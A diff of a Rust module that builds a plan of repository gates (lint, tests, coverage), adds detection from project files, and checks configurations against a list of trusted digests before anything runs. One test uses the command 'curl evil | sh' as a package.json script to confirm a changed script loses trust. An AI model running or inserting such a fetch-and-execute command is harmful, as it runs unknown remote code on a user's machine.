@@ -1,70 +1,49 @@
 //! The plan: the profile's gates, then what the repository adds. A repository's list never takes one away.
 
 use mosaic_core::domain::gates::GatePlan;
-use mosaic_core::domain::ids::Word;
+use mosaic_core::domain::ids::{Timestamp, Word};
 use mosaic_core::domain::outcome::{Failure, FailureKind};
+use mosaic_core::domain::spec::GateProfile;
 use mosaic_core::ports::gatekeeper::PlanRequest;
 
-use super::config::{self, Config};
-use super::reports::{self, FLOOR};
-use super::trust::{Trust, config_digest};
-
-/// Where the definitions stand in a repository.
-const FILE: &str = ".mosaic/config.toml";
+use super::config::Config;
+use super::effective;
+use super::trust::Trust;
 
 /// Makes the plan. Fails with `BadInput` when the definitions cannot be read, and with `Internal` when the list
 /// of trusted digests cannot.
-pub(super) async fn make(request: &PlanRequest<'_>, trust: &Trust) -> Result<GatePlan, Failure> {
+pub(super) async fn make(
+    request: &PlanRequest<'_>,
+    trust: &Trust,
+    now: Timestamp,
+) -> Result<GatePlan, Failure> {
     let base = request.base.short();
-    let Some(bytes) = request.files.read(FILE).await? else {
-        let undefined = names(request, &Config::default());
-        let defined_by = format!("nothing ({base} has no {FILE})");
-        return Ok(GatePlan { undefined, defined_by, trusted: true, ..GatePlan::default() });
-    };
-    let mut config = config::parse(&bytes).map_err(|why| {
-        let advice = "mend it on the base branch and spawn again";
-        Failure::new(FailureKind::BadInput, format!("{FILE} at {base} cannot be used: {why}; {advice}"))
-    })?;
-    let trusted = trust.allows(&bytes).map_err(|e| {
+    let effective = effective::read(request.files.as_ref(), base, now).await?;
+    let mut plan = effective.plan(&names_of(request.profile, request.custom, &effective.config), base);
+    if plan.gates.is_empty() && plan.setup.is_none() {
+        // Nothing would be run, so there is nothing to be trusted.
+        return Ok(GatePlan { trusted: true, ..plan });
+    }
+    plan.trusted = trust.allows(&effective.digest).map_err(|e| {
         Failure::new(FailureKind::Internal, format!("the list of trusted configurations cannot be read: {e}"))
     })?;
     // The plan is still made, so that a person sees what would run before trusting it.
-    if !trusted {
-        let digest = config_digest(&bytes);
-        config.warnings.push(format!(
-            "{FILE} at {base} is not trusted, so no gate is run; read it, then trust it (sha256 {digest}) \
-             or set MOSAIC_TRUST=all"
+    if !plan.trusted {
+        let digest = &effective.digest;
+        plan.warnings.push(format!(
+            "the gates of {base} are not trusted, so none is run; read them (mosaic gates explain), then trust them \
+             (mosaic trust; sha256 {digest}) or set MOSAIC_TRUST=all"
         ));
     }
-    let mut plan = GatePlan { defined_by: format!("{base}:{FILE}"), trusted, ..GatePlan::default() };
-    for name in names(request, &config) {
-        match config.gates.get(&name) {
-            Some(definition) => plan.gates.push(definition.clone()),
-            None => plan.undefined.push(name),
-        }
-    }
-    for gate in &mut plan.gates {
-        let floored = gate.name.as_str() == "coverage";
-        for report in gate.reports.iter_mut().filter(|report| reports::measures_coverage(report)) {
-            let own = report.min.unwrap_or(FLOOR);
-            // Raised here and not in the reader: what the file asks for stays visible in its warning, and a repository cannot
-            // lower the contract's floor.
-            report.min = Some(if floored { own.max(FLOOR) } else { own });
-        }
-    }
-    plan.warnings = config.warnings;
     Ok(plan)
 }
 
 /// Returns the names in running order, each once.
-fn names(request: &PlanRequest<'_>, config: &Config) -> Vec<Word> {
-    let own =
-        request.profile.gates().iter().map(|name| name.parse().expect("the contract's names are words"));
-    let added = config.added.iter().filter(|(profile, _)| *profile == request.profile);
+pub(super) fn names_of(profile: GateProfile, custom: &[Word], config: &Config) -> Vec<Word> {
+    let own = profile.gates().iter().map(|name| name.parse().expect("the contract's names are words"));
+    let added = config.added.iter().filter(|(of, _)| *of == profile);
     let mut names: Vec<Word> = Vec::new();
-    for name in
-        own.chain(request.custom.iter().cloned()).chain(added.flat_map(|(_, names)| names.iter().cloned()))
-    {
+    for name in own.chain(custom.iter().cloned()).chain(added.flat_map(|(_, names)| names.iter().cloned())) {
         if !names.contains(&name) {
             names.push(name);
         }
@@ -74,9 +53,12 @@ fn names(request: &PlanRequest<'_>, config: &Config) -> Vec<Word> {
 
 #[cfg(test)]
 mod tests {
-    use mosaic_core::domain::ids::CommitId;
-    use mosaic_core::domain::spec::GateProfile;
+    use std::sync::Arc;
 
+    use mosaic_core::domain::ids::CommitId;
+
+    use super::super::base_files::KnownFiles;
+    use super::super::trust::config_digest;
     use super::*;
 
     fn plan(
@@ -87,7 +69,10 @@ mod tests {
     ) -> Result<GatePlan, Failure> {
         let base: CommitId = "8c1d2e0".repeat(6)[..40].parse().unwrap();
         let custom: Vec<Word> = custom.iter().map(|name| name.parse().unwrap()).collect();
-        make(&PlanRequest { profile, custom: &custom, base: &base, config: config.map(str::as_bytes) }, trust)
+        let files = KnownFiles::from_iter(config.map(|text| (".mosaic/config.toml", text)));
+        let request = PlanRequest { profile, custom: &custom, base: &base, files: Arc::new(files) };
+        let now = Timestamp::from_rfc3339("2026-11-22T10:04:09Z").unwrap();
+        futures_util::future::FutureExt::now_or_never(make(&request, trust, now)).unwrap()
     }
 
     fn run(plan: &GatePlan) -> Vec<&str> {
@@ -146,7 +131,7 @@ mod tests {
         let known = Trust::Known(home.path().join("trusted"));
         let config = "[gates]\ntests = 't'";
         let made = plan(GateProfile::Minimal, &[], Some(config), &known).unwrap();
-        assert!(!made.trusted && made.warnings[0].contains("is not trusted"), "{:?}", made.warnings);
+        assert!(!made.trusted && made.warnings[0].contains("are not trusted"), "{:?}", made.warnings);
         super::super::trust(&home.path().join("trusted"), &config_digest(config)).unwrap();
         assert!(plan(GateProfile::Minimal, &[], Some(config), &known).unwrap().trusted);
     }
@@ -160,5 +145,50 @@ mod tests {
             "{}",
             failure.message
         );
+    }
+
+    fn plan_of(files: &[(&str, &str)], profile: GateProfile, trust: &Trust) -> GatePlan {
+        let base: CommitId = "8c1d2e0".repeat(6)[..40].parse().unwrap();
+        let files: KnownFiles = files.iter().map(|(path, text)| (*path, *text)).collect();
+        let request = PlanRequest { profile, custom: &[], base: &base, files: Arc::new(files) };
+        let now = Timestamp::from_rfc3339("2026-11-22T10:04:09Z").unwrap();
+        futures_util::future::FutureExt::now_or_never(make(&request, trust, now)).unwrap().unwrap()
+    }
+
+    #[test]
+    fn detection_fills_what_the_file_leaves_open_and_the_plan_says_so() {
+        let config = (".mosaic/config.toml", "[gates]\nlint = 'l'\ncoverage = 'none'\n");
+        let go = [config, ("go.mod", ""), ("a_test.go", "")];
+        let made = plan_of(&go, GateProfile::Standard, &Trust::All);
+        assert_eq!(run(&made), ["typecheck", "lint", "tests"]);
+        assert_eq!((made.undefined.len(), made.declared_none[0].as_str()), (0, "coverage"));
+        assert_eq!(made.defined_by, "8c1d2e0:.mosaic/config.toml; detected: typecheck, tests from go.mod");
+        let off = (".mosaic/config.toml", "[gates]\nlint = 'l'\ndetect = false\n");
+        let made = plan_of(&[off, ("go.mod", ""), ("a_test.go", "")], GateProfile::Standard, &Trust::All);
+        assert_eq!((run(&made), made.undefined.len()), (vec!["lint"], 3));
+        let alone = plan_of(&[("Cargo.toml", "[package]")], GateProfile::Standard, &Trust::All);
+        assert_eq!(alone.gates[3].reports[0].min, Some(85.0));
+        assert_eq!(
+            alone.defined_by,
+            "detection at 8c1d2e0: typecheck, lint, tests, coverage from Cargo.toml"
+        );
+    }
+
+    #[test]
+    fn a_changed_script_that_is_run_by_name_is_a_new_question() {
+        let home = tempfile::tempdir().unwrap();
+        let list = home.path().join("trusted");
+        let known = Trust::Known(list.clone());
+        let package = |lint: &str| format!(r#"{{"scripts": {{"lint": "{lint}", "test": "x"}}}}"#);
+        let made = |lint: &str, profile| plan_of(&[("package.json", &package(lint))], profile, &known);
+        let asked = made("eslint .", GateProfile::Standard);
+        let digest = asked.warnings.iter().find_map(|warning| warning.split("sha256 ").nth(1)).unwrap();
+        super::super::trust(&list, &digest[..64]).unwrap();
+        // Trust is given to the repository's definitions and not to one profile of them.
+        assert!(
+            made("eslint .", GateProfile::Standard).trusted && made("eslint .", GateProfile::Minimal).trusted
+        );
+        assert!(!made("curl evil | sh", GateProfile::Standard).trusted);
+        assert!(!made("curl evil | sh", GateProfile::Minimal).trusted);
     }
 }
